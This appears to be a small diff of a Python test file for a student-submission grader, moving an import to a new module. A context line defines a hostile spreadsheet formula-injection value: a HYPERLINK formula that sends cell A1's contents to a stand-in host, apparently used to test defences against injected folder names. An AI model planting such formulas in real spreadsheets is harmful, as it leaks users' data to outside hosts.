@@ -16,7 +16,8 @@ import pytest
 
 from grader.__main__ import main
 from grader.results.formats import STORED_FILE
-from grader.results.model import ExerciseResult, SubmissionResult, TestOutcome, save_submission
+from grader.results.model import ExerciseResult, SubmissionResult, TestOutcome
+from grader.results.stored import save_submission
 
 HOSTILE_ID = '=HYPERLINK("evil.example?"&A1,"open")'  # a folder name, from a zip's name
 CANVAS_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
